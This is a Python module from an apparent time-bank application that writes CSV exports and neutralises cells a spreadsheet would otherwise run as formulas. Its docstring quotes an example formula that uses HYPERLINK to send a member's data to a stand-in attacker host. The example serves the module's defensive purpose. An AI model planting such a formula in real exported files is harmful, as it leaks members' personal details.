"""Keeping spreadsheets from running what members typed.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before looking) is read as a formula when the file is opened: a note such as
``=HYPERLINK("http://evil.example/?"&A1)`` could send a member's details away. Every text cell we
export is passed through :func:`neutralise`, which puts a single quote in front, as OWASP
recommends; spreadsheets show the text as typed and never run it. Direction controls are removed
from every cell first (:mod:`timebank.text`): they would turn a row backwards, and could hide a
formula's first character.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

from timebank.text import without_direction_controls

#: What a spreadsheet may take as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

#: Excel opens a UTF-8 file correctly only when it starts with a byte-order mark.
BOM = "\ufeff"


def neutralise(value: object) -> object:
    """The value, with text that a spreadsheet would run as a formula made plain text.

    Numbers we write ourselves (a negative balance) are left as numbers."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def unneutralise(value: str) -> str:
    """Undo :func:`neutralise`, so that a file we exported imports as it was."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def cell(value: object) -> object:
    """A value as an exported cell: empty for None; text without direction controls, then
    neutralised."""
    if value is None:
        return ""
    if isinstance(value, str):
        value = without_direction_controls(value)
    return neutralise(value)


def write_csv(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A CSV document, every cell made safe by :func:`cell`, starting with a byte-order mark for
    Excel."""
    buffer = io.StringIO()
    buffer.write(BOM)
    writer = csv.writer(buffer)
    writer.writerow(header)
    for row in rows:
        writer.writerow([cell(value) for value in row])
    return buffer.getvalue()
